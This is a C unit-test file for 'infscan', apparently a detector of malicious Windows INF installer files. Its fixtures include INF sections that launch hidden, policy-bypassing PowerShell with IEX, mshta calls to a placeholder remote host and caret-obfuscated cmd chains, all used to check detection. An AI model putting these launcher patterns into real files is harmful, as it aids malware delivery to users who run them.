/* SPDX-License-Identifier: MIT */
#include <infscan/infscan.h>

#include "base/limits.h"
#include "unit.h"

struct fixture {
    struct infscan_ruleset *rules;
    struct infscan_scanner *scanner;
};

static struct fixture fixture;

static int set_up(void **state)
{
    *state = &fixture;
    return infscan_ruleset_new(INFSCAN_RULESET_BUILTIN, NULL, 0, &fixture.rules,
                               NULL) != INFSCAN_OK ||
           infscan_scanner_new(fixture.rules, NULL, &fixture.scanner, NULL) !=
               INFSCAN_OK;
}

static int tear_down(void **state)
{
    (void)state;
    infscan_scanner_free(fixture.scanner);
    infscan_ruleset_free(fixture.rules);
    return 0;
}

static struct infscan_result *scan(struct str raw)
{
    struct infscan_result *result;

    assert_int_equal(infscan_scan_bytes(fixture.scanner, "x.inf", raw.bytes,
                                        raw.len, &result),
                     INFSCAN_OK);
    return result;
}

static const struct infscan_finding *
finding(const struct infscan_result *result, const char *match)
{
    size_t n;
    const struct infscan_finding *findings =
        infscan_result_findings(result, &n);

    for (size_t i = 0; i < n; i++) {
        struct str text =
            str_of(findings[i].match.bytes, findings[i].match.len);
        if (str_find_fold(text, str_from(match), 0) != STR_NONE) {
            return &findings[i];
        }
    }
    return NULL;
}

#define EXAMPLE                                                                \
    "[Version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n"                  \
    "[DefaultInstall]\r\nCustomDestination=CustInstDestSectionAllUsers\r\n"    \
    "RunPreSetupCommands=RunPreSetupCommandsSection\r\n"                       \
    "[RunPreSetupCommandsSection]\r\n"                                         \
    "powershell.exe -ep bypass -w hidden -c \"IEX(...)\"\r\n"

static void test_the_seed_of_the_family(void **state)
{
    struct infscan_result *result = scan(STR(EXAMPLE));
    const struct infscan_summary *summary = infscan_result_summary(result);
    size_t n;

    (void)state;
    assert_int_equal(summary->verdict, INFSCAN_MALICIOUS);
    assert_string_equal(summary->dialect, "advanced-inf");
    assert_true(summary->accepted);
    assert_non_null(finding(result, "bypass"));
    assert_non_null(finding(result, "IEX"));
    const struct infscan_finding *hidden = finding(result, "-w hidden");
    assert_non_null(hidden);
    assert_int_equal(hidden->place.line, 8);
    assert_int_equal(hidden->place.column, 27);
    assert_int_equal(hidden->place.length, 9);

    const struct infscan_action *actions = infscan_result_actions(result, &n);
    const struct infscan_action *action = &actions[hidden->action];
    assert_int_equal(action->n_chain, 2);
    assert_str(
        str_of(action->chain[0].section.bytes, action->chain[0].section.len),
        "DefaultInstall");
    assert_str(str_of(action->chain[0].directive.bytes,
                      action->chain[0].directive.len),
               "RunPreSetupCommands");
    assert_int_equal(action->chain[0].place.line, 6);
    assert_str(
        str_of(action->chain[1].section.bytes, action->chain[1].section.len),
        "RunPreSetupCommandsSection");
    assert_int_equal(action->chain[1].place.line, 8);
    infscan_result_free(result);
}

static void test_a_result_outlives_its_scanner_and_rules(void **state)
{
    struct infscan_ruleset *rules;
    struct infscan_scanner *scanner;
    struct infscan_result *result;
    size_t n;

    (void)state;
    assert_int_equal(
        infscan_ruleset_new(INFSCAN_RULESET_BUILTIN, NULL, 0, &rules, NULL),
        INFSCAN_OK);
    assert_int_equal(infscan_scanner_new(rules, NULL, &scanner, NULL),
                     INFSCAN_OK);
    assert_int_equal(
        infscan_scan_bytes(scanner, "x", EXAMPLE, sizeof EXAMPLE - 1, &result),
        INFSCAN_OK);
    infscan_scanner_free(scanner);
    infscan_ruleset_free(rules);
    const struct infscan_finding *findings =
        infscan_result_findings(result, &n);
    for (size_t i = 0; i < n; i++) {
        assert_true(strlen(findings[i].title) > 3);
        assert_non_null(findings[i].attack);
    }
    assert_int_equal(strlen(infscan_result_summary(result)->rules_digest), 64);
    infscan_result_free(result);
}

static void test_the_same_bytes_give_the_same_result(void **state)
{
    struct infscan_result *a = scan(STR(EXAMPLE));
    struct infscan_result *b = scan(STR(EXAMPLE));
    size_t n;
    size_t m;

    (void)state;
    const struct infscan_finding *x = infscan_result_findings(a, &n);
    const struct infscan_finding *y = infscan_result_findings(b, &m);
    assert_int_equal(n, m);
    for (size_t i = 0; i < n; i++) {
        assert_string_equal(x[i].rule, y[i].rule);
        assert_int_equal(x[i].place.offset, y[i].place.offset);
    }
    infscan_result_free(a);
    infscan_result_free(b);
}

static void test_an_honest_file_is_clean(void **state)
{
    struct infscan_result *result =
        scan(STR("[Version]\nSignature=\"$Windows NT$\"\n[DefaultInstall]\n"
                 "AddReg=A\n[A]\nHKLM,Software\\Contoso,Colour,,blue\n"));
    size_t n;

    (void)state;
    assert_int_equal(infscan_result_summary(result)->verdict, INFSCAN_CLEAN);
    assert_int_equal(infscan_result_summary(result)->score, 0);
    infscan_result_actions(result, &n);
    assert_int_equal(n, 1);
    infscan_result_free(result);
}

static void test_odd_files_are_not_inf(void **state)
{
    static const struct str files[] = {
        {"", 0},
        {"MZ\x90\0\x03\0\0\0", 8},
        {"\0\0\0\0\0\0\0\0", 8},
        {"\xFF\xFE", 2},
        {"hello\n", 6},
        {"[Defines]\nINF_VERSION=1\nBASE_NAME=x\n", 36},
    };

    (void)state;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        struct infscan_result *result = scan(files[i]);
        const struct infscan_summary *summary = infscan_result_summary(result);
        assert_int_equal(summary->status, INFSCAN_RESULT_NOT_INF);
        assert_int_equal(summary->verdict, INFSCAN_CLEAN);
        assert_int_equal(strlen(summary->sha256), 64);
        infscan_result_free(result);
    }
}

static void test_a_refused_file_still_shows_what_it_would_do(void **state)
{
    struct infscan_result *result = scan(
        STR("[Version]\nSignature=$ind$\n[DefaultInstall]\n"
            "RunPreSetupCommands=R\n[R]\nmshta http://example.invalid/a\n"));
    const struct infscan_summary *summary = infscan_result_summary(result);
    size_t n;

    (void)state;
    assert_false(summary->accepted);
    assert_string_equal(summary->refusal, "ERROR_WRONG_INF_STYLE");
    infscan_result_plans(result, &n);
    assert_true(n > 0);
    assert_int_not_equal(summary->verdict, INFSCAN_CLEAN);
    infscan_result_free(result);
}

static void test_unreadable_files_are_error_results(void **state)
{
    struct infscan_result *result;

    (void)state;
    assert_int_equal(
        infscan_scan_file(fixture.scanner, "/nonexistent/x.inf", &result),
        INFSCAN_OK);
    assert_int_equal(infscan_result_summary(result)->status,
                     INFSCAN_RESULT_ERROR);
    assert_int_equal(infscan_result_summary(result)->verdict,
                     INFSCAN_VERDICT_NONE);
    assert_true(infscan_result_summary(result)->error_message.len > 5);
    infscan_result_free(result);
    assert_int_equal(infscan_scan_file(fixture.scanner, "/", &result),
                     INFSCAN_OK);
    assert_int_equal(infscan_result_summary(result)->status,
                     INFSCAN_RESULT_ERROR);
    infscan_result_free(result);
    assert_int_equal(infscan_scan_file(fixture.scanner, "/dev/null", &result),
                     INFSCAN_OK);
    assert_int_equal(infscan_result_summary(result)->status,
                     INFSCAN_RESULT_ERROR);
    infscan_result_free(result);
}

static void test_bad_options_are_refused(void **state)
{
    static const char *const launchers[] = {"cmstp:Sec", "nosuch"};
    struct infscan_options options = {.launchers = launchers, .n_launchers = 2};
    struct infscan_scanner *scanner = NULL;
    struct infscan_error error = {0};

    (void)state;
    assert_int_equal(
        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
        INFSCAN_INVALID);
    assert_non_null(strstr(error.message, "nosuch"));
    options = (struct infscan_options){.codepage = 4711};
    assert_int_equal(
        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
        INFSCAN_INVALID);
    assert_null(scanner);
    infscan_error_clear(&error);
}

static void test_a_file_name_that_is_not_utf8(void **state)
{
    struct infscan_result *result;

    (void)state;
    assert_int_equal(
        infscan_scan_bytes(fixture.scanner, "a\xFFz", "", 0, &result),
        INFSCAN_OK);
    const struct infscan_summary *summary = infscan_result_summary(result);
    assert_str(str_of(summary->path.bytes, summary->path.len),
               "a\xEF\xBF\xBDz");
    assert_str(str_of(summary->raw_path.bytes, summary->raw_path.len),
               "a\xFFz");
    infscan_result_free(result);
}

static void test_one_command_without_an_inf(void **state)
{
    static const char command[] = "powershell -w hidden -e SQBFAFgA";
    struct infscan_result *result;
    struct infscan_string final;
    size_t n;

    (void)state;
    assert_int_equal(infscan_peel(fixture.scanner, command, sizeof command - 1,
                                  &result, &final),
                     INFSCAN_OK);
    const struct infscan_action *actions = infscan_result_actions(result, &n);
    assert_int_equal(n, 1);
    assert_true(actions[0].n_layers >= 1);
    assert_int_not_equal(infscan_result_summary(result)->verdict,
                         INFSCAN_CLEAN);
    infscan_result_free(result);
    assert_int_equal(infscan_peel(fixture.scanner, "", 0, &result, &final),
                     INFSCAN_OK);
    assert_int_equal(final.len, 0);
    infscan_result_free(result);
}

static bool has_diagnostic(const struct infscan_result *result,
                           const char *code)
{
    size_t n;
    const struct infscan_diagnostic *diagnostics =
        infscan_result_diagnostics(result, &n);

    for (size_t i = 0; i < n; i++) {
        if (strcmp(diagnostics[i].code, code) == 0) {
            return true;
        }
    }
    return false;
}

static void test_bytes_that_readers_take_differently(void **state)
{
    struct infscan_result *result = scan(STR("[A]\nk=C:\\\xE9\\b\n"));

    (void)state;
    assert_true(has_diagnostic(result, "INF0027"));
    assert_false(has_diagnostic(result, "INF0028"));
    infscan_result_free(result);
    result = scan(STR("[A]\nk=C:\\e\\b\n\x01\x02\x03\x04\x05"));
    assert_false(has_diagnostic(result, "INF0027"));
    assert_true(has_diagnostic(result, "INF0028"));
    infscan_result_free(result);
}

/* Mostly NUL bytes, so that it is guessed to be UTF-16, and yet an INF for who
 * reads bytes. */
static void test_bytes_of_two_texts_are_judged_by_the_worse(void **state)
{
    static const char inf[] = "\n[Version]\nSignature=$CHICAGO$\n"
                              "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n"
                              "mshta http://example.invalid/a\n";
    char raw[2048];

    (void)state;
    for (size_t i = 0; i < 1024; i++) {
        raw[2 * i] = i % 40 ? 'x' : '\n';
        raw[2 * i + 1] = '\0';
    }
    memcpy(raw + 1024, inf, sizeof inf - 1);
    struct infscan_result *result = scan(str_of(raw, sizeof raw));
    assert_int_equal(infscan_result_summary(result)->verdict,
                     INFSCAN_MALICIOUS);
    assert_string_equal(infscan_result_summary(result)->encoding,
                        "windows-1252");
    assert_true(has_diagnostic(result, "INF0030"));
    infscan_result_free(result);
}

/* The same with so much around it that the readings are made one after the
 * other: the worse one counts, whichever that is. */
static void test_large_bytes_of_two_texts_are_judged_by_the_worse(void **state)
{
    static const char worse[] = "\n[Version]\nSignature=$CHICAGO$\n"
                                "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n"
                                "mshta http://example.invalid/a\n";
    static const char better[] = "\n[Version]\nSignature=$CHICAGO$\n";
    size_t size = (size_t)3 << 20;
    char *raw = malloc(size);

    (void)state;
    assert_non_null(raw);
    for (int is_narrow = 0; is_narrow < 2; is_narrow++) {
        const char *narrow = is_narrow ? worse : better;
        const char *wide = is_narrow ? better : worse;
        for (size_t i = 0; i < size / 2; i++) {
            char c = i % 40 ? 'x' : '\n';
            raw[2 * i] = i < strlen(wide) ? wide[i] : c;
            raw[2 * i + 1] = '\0';
        }
        memcpy(raw + size / 2, narrow, strlen(narrow));
        struct infscan_result *result = scan(str_of(raw, size));
        assert_int_equal(infscan_result_summary(result)->verdict,
                         INFSCAN_MALICIOUS);
        assert_string_equal(infscan_result_summary(result)->encoding,
                            is_narrow ? "windows-1252" : "utf-16le");
        assert_true(has_diagnostic(result, "INF0030"));
        assert_int_equal(infscan_result_summary(result)->size, size);
        infscan_result_free(result);
    }
    free(raw);
}

static void test_each_language_is_read(void **state)
{
    struct infscan_result *result =
        scan(STR("[Version]\nSignature=$CHICAGO$\nAdvancedINF=2.5\n"
                 "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n%c%\n"
                 "[Strings]\nc=setup.exe\n[Strings.0419]\n"
                 "c=mshta http://example.invalid/a\n"));
    size_t n;
    bool found = false;

    (void)state;
    assert_int_equal(infscan_result_summary(result)->verdict,
                     INFSCAN_MALICIOUS);
    const struct infscan_plan *plans = infscan_result_plans(result, &n);
    for (size_t i = 0; i < n; i++) {
        found = found ||
                str_equal(str_of(plans[i].strings.bytes, plans[i].strings.len),
                          STR("0419"));
    }
    assert_true(found);
    infscan_result_free(result);
}

static void test_lines_of_the_file(void **state)
{
    struct infscan_result *result = scan(STR("[A]\r\nk=1\r\n"));
    struct infscan_string line = infscan_result_line(result, 2);

    (void)state;
    assert_str(str_of(line.bytes, line.len), "k=1");
    assert_int_equal(infscan_result_line(result, 99).len, 0);
    infscan_result_free(result);
}

/* Every row of the table can be asked for, and only in its range. */
static void test_limits(void **state)
{
    size_t n;
    const struct infscan_limit *limits = infscan_limits(&n);
    struct infscan_error error = {0};

    (void)state;
    assert_int_equal(n, N_LIMITS);
    for (size_t i = 0; i < n; i++) {
        struct infscan_limit_value value = {limits[i].name, limits[i].most};
        struct infscan_options options = {.limits = &value, .n_limits = 1};
        struct infscan_scanner *scanner = NULL;
        assert_true(limits[i].least <= limits[i].value &&
                    limits[i].value <= limits[i].most);
        assert_int_equal(
            infscan_scanner_new(fixture.rules, &options, &scanner, &error),
            INFSCAN_OK);
        infscan_scanner_free(scanner);
        value.value = limits[i].least - 1;
        assert_int_equal(
            infscan_scanner_new(fixture.rules, &options, &scanner, &error),
            INFSCAN_INVALID);
        assert_non_null(strstr(error.message, limits[i].name));
        infscan_error_clear(&error);
    }
    struct infscan_limit_value none = {"nothing", 1};
    struct infscan_options options = {.limits = &none, .n_limits = 1};
    struct infscan_scanner *scanner = NULL;
    assert_int_equal(
        infscan_scanner_new(fixture.rules, &options, &scanner, &error),
        INFSCAN_INVALID);
    assert_string_equal(error.message, "unknown limit: nothing");
    infscan_error_clear(&error);
}

/* Whatever the limits are, there is a result that does not read as clean where
 * one was reached. */
static void test_each_limit_at_its_least(void **state)
{
    static const char inf[] =
        "[Version]\nSignature=\"$CHICAGO$\"\n[DefaultInstall]\n"
        "RunPreSetupCommands=a\nAddReg=b\n[a]\n"
        "cmd /c cmd /c cmd /c p^o^w^ershell -ep bypass -w hidden x\n"
        "mshta http://a.example.invalid/%s%\n[b]\nHKLM,S,v,,1\n[Strings]\n"
        "s=t\n[Strings.0407]\ns=u\n[Strings.0409]\ns=v\n";
    size_t n;
    const struct infscan_limit *limits = infscan_limits(&n);
    size_t reached = 0;

    (void)state;
    for (size_t i = 0; i < n; i++) {
        struct infscan_limit_value value = {limits[i].name, limits[i].least};
        struct infscan_options options = {.limits = &value, .n_limits = 1};
        struct infscan_scanner *scanner = NULL;
        struct infscan_result *result = NULL;
        assert_int_equal(
            infscan_scanner_new(fixture.rules, &options, &scanner, NULL),
            INFSCAN_OK);
        assert_int_equal(
            infscan_scan_bytes(scanner, "x.inf", inf, sizeof inf - 1, &result),
            INFSCAN_OK);
        const struct infscan_summary *summary = infscan_result_summary(result);
        if (summary->status == INFSCAN_RESULT_PARTIAL) {
            assert_true(summary->verdict >= INFSCAN_SUSPICIOUS);
            reached++;
        }
        infscan_result_free(result);
        infscan_scanner_free(scanner);
    }
    assert_true(reached >= 6);
}

static void test_what_rules_cost_is_noted(void **state)
{
    uint64_t texts = 0;

    (void)state;
    infscan_result_free(scan(STR(EXAMPLE)));
    assert_int_equal(infscan_scanner_rule_cost(fixture.scanner, 0).texts, 0);
    assert_int_equal(infscan_scanner_measure(fixture.scanner), INFSCAN_OK);
    infscan_result_free(scan(STR(EXAMPLE)));
    size_t n = infscan_ruleset_count(fixture.rules);
    for (size_t i = 0; i < n; i++) {
        texts += infscan_scanner_rule_cost(fixture.scanner, i).texts;
    }
    assert_true(texts > 0);
    assert_int_equal(infscan_scanner_rule_cost(fixture.scanner, n).texts, 0);
}

/* A brief scan leaves out what is not listed, and is the same in the rest. */
static void test_a_brief_result_lists_the_same(void **state)
{
    static const char text[] =
        EXAMPLE "[Other]\r\nAddReg=a\r\nDelFiles=d\r\n[d]\r\nx.txt\r\n"
                "[a]\r\nHKLM,Software\\A,b,,c\r\n";
    const struct infscan_options options = {.brief = 1};
    struct infscan_scanner *brief;
    struct infscan_result *results[2];
    size_t n[2];
    size_t n_left_out = 0;

    (void)state;
    assert_int_equal(infscan_scanner_new(fixture.rules, &options, &brief, NULL),
                     INFSCAN_OK);
    results[0] = scan(str_from(text));
    assert_int_equal(
        infscan_scan_bytes(brief, "x.inf", text, sizeof text - 1, &results[1]),
        INFSCAN_OK);
    const struct infscan_action *full = infscan_result_actions(results[0], n);
    const struct infscan_action *few =
        infscan_result_actions(results[1], n + 1);
    assert_int_equal(n[0], n[1]);
    for (size_t i = 0; i < n[0]; i++) {
        assert_int_equal(full[i].kind, few[i].kind);
        assert_int_equal(full[i].listed, few[i].listed);
        assert_int_equal(full[i].reachable, few[i].reachable);
        assert_int_equal(full[i].text.len, few[i].text.len);
        assert_memory_equal(full[i].text.bytes, few[i].text.bytes,
                            full[i].text.len);
        assert_int_equal(few[i].n_chain, few[i].listed ? full[i].n_chain : 0);
        assert_int_equal(few[i].place.line,
                         few[i].listed ? full[i].place.line : 0);
        n_left_out += !few[i].listed;
    }
    assert_int_equal(n_left_out, 2);
    infscan_result_findings(results[0], n);
    infscan_result_findings(results[1], n + 1);
    assert_true(n[0] > 0);
    assert_int_equal(n[0], n[1]);
    infscan_result_free(results[0]);
    infscan_result_free(results[1]);
    infscan_scanner_free(brief);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_a_brief_result_lists_the_same),
        cmocka_unit_test(test_limits),
        cmocka_unit_test(test_what_rules_cost_is_noted),
        cmocka_unit_test(test_each_limit_at_its_least),
        cmocka_unit_test(test_the_seed_of_the_family),
        cmocka_unit_test(test_a_result_outlives_its_scanner_and_rules),
        cmocka_unit_test(test_the_same_bytes_give_the_same_result),
        cmocka_unit_test(test_an_honest_file_is_clean),
        cmocka_unit_test(test_odd_files_are_not_inf),
        cmocka_unit_test(test_a_refused_file_still_shows_what_it_would_do),
        cmocka_unit_test(test_unreadable_files_are_error_results),
        cmocka_unit_test(test_bad_options_are_refused),
        cmocka_unit_test(test_a_file_name_that_is_not_utf8),
        cmocka_unit_test(test_one_command_without_an_inf),
        cmocka_unit_test(test_bytes_that_readers_take_differently),
        cmocka_unit_test(test_bytes_of_two_texts_are_judged_by_the_worse),
        cmocka_unit_test(test_large_bytes_of_two_texts_are_judged_by_the_worse),
        cmocka_unit_test(test_each_language_is_read),
        cmocka_unit_test(test_lines_of_the_file),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
